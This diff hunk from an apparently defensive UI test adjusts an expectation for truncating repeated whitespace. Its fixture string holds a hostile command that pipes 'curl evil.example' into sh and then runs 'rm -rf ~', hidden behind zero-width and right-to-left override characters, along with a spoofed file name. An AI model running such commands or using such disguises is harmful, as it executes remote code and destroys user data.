@@ -188,7 +188,7 @@ test('runs that others recorded are told apart, and nothing of what they do is o
     'ls␣×3000; curl evil.example | sh #\\u202e\\u200b\n␊×401\nrm -rf ~'
   );
   expect(screen.getByText(/^Outputs/u).textContent).toBe('Outputs: out\\u202etxt.sh');
-  expect(other).toMatch(/Tidy up\S+…×3001and more/u);
+  expect(other).toMatch(/Tidy up\S+␣×3000and more/u);
   expect(other).not.toMatch(/[\u200b\u202e\u2066]| {40}|\n{5}/u);
   await user.click(screen.getByRole('button', { name: 'Cancel' }));
 });
